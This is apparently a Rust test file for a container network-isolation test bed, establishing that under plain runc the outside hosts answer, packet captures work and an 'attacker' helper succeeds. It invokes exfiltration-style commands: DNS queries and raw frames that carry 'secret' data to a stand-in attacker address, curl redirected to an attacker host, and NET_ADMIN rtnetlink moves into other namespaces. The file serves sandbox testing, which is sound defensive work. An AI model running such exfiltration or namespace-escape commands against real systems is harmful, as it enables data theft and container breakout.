//! The bed itself, under plain runc: the outside answers, the captures see, the attacker's weapons
//! work. Without these "nothing got through" would prove nothing.

use test_support::bed::{Bed, Capture};
use test_support::harness::Test;
use test_support::hosts::{ATTACKER, DENIED};

pub(crate) const TESTS: &[Test] = &[
    ("a_plain_container_reaches_every_host", every_host),
    (
        "the_capture_sees_what_a_plain_container_sends",
        capture_sees,
    ),
    (
        "raw_frames_of_a_plain_container_are_on_the_wire",
        frames_on_the_wire,
    ),
];

/// It reaches into every namespace that a link of the host's leads to, and what it takes away there is
/// missed: it would cut other containers off.
pub(crate) const ALONE: &[Test] = &[(
    "a_plain_container_with_net_admin_reaches_into_other_namespaces",
    rtnetlink_works,
)];

fn every_host(bed: &Bed) {
    for (url, who) in [
        ("http://allowed.test/", "I am allowed.test"),
        ("https://allowed.test/", "I am allowed.test"),
        ("https://deep.below.wild.test/", "I am *.wild.test"),
        ("http://denied.test/", "I am denied.test"),
        (
            "-6 https://denied.test/",
            "I am denied.test at 2001:db8:1::20",
        ),
        (
            "--resolve allowed.test:443:203.0.113.66 https://allowed.test/",
            "I am attacker.test",
        ),
    ] {
        let answer = bed.run_with("runc", &[], &format!("curl -sS -m 5 {url}"));
        assert!(
            answer.must_succeed().stdout.contains(who),
            "{url}: {}",
            answer.stdout
        );
    }
}

fn capture_sees(bed: &Bed) {
    let container = bed.start_with("runc", &[], &["sleep", "600"]);
    let capture = Capture::start(bed, &container.uplink(), "in");
    let target = DENIED.v4;
    let script = format!(
        "attacker probe tcp {target}:22; attacker probe udp {target}:9999; attacker probe icmp {target};
         attacker probe udp [{}]:9999; attacker dns udp {}:53 secret.denied.test",
        DENIED.v6, ATTACKER.v4
    );
    let said = container.exec(&script).must_succeed().stdout.clone();
    let words: Vec<&str> = said
        .lines()
        .filter_map(|line| line.split(' ').next())
        .collect();
    assert_eq!(
        words,
        ["connected", "answered", "answered", "answered", "nxdomain"]
    );
    let packets = capture.stop().join("\n");
    for sign in [
        "198.51.100.20.22: Flags [S]",
        "198.51.100.20.9999: UDP",
        "ICMP echo request",
        "IP6 ",
        "secret.denied",
    ] {
        assert!(packets.contains(sign), "no {sign} in:\n{packets}");
    }
}

fn rtnetlink_works(bed: &Bed) {
    let answer = bed.run_with(
        "runc",
        &["--cap-add", "NET_ADMIN"],
        "attacker rtnetlink eth0",
    );
    let said = &answer.must_succeed().stdout;
    assert!(said.contains("list links in 0: permitted"), "{said}");
    assert!(said.contains("make a veth into 0: permitted"), "{said}");
    assert!(said.contains("make a link in 0: permitted"), "{said}");
    assert!(said.contains("delete evil0 in 0: permitted"), "{said}");
}

fn frames_on_the_wire(bed: &Bed) {
    let container = bed.start_with("runc", &[], &["sleep", "600"]);
    let capture = Capture::start(bed, &container.uplink(), "in");
    container
        .exec(&format!(
            "attacker frames eth0 {0} a-secret; attacker raw {0} a-secret",
            ATTACKER.v4
        ))
        .must_succeed();
    let packets = capture.stop();
    let frames = packets
        .iter()
        .filter(|packet| packet.contains("203.0.113.66.53:"))
        .count();
    assert!(frames >= 4, "{frames} frames in {packets:#?}");
    assert!(
        packets
            .iter()
            .any(|packet| packet.contains("203.0.113.66:  ip-proto-253")),
        "{packets:#?}"
    );
}
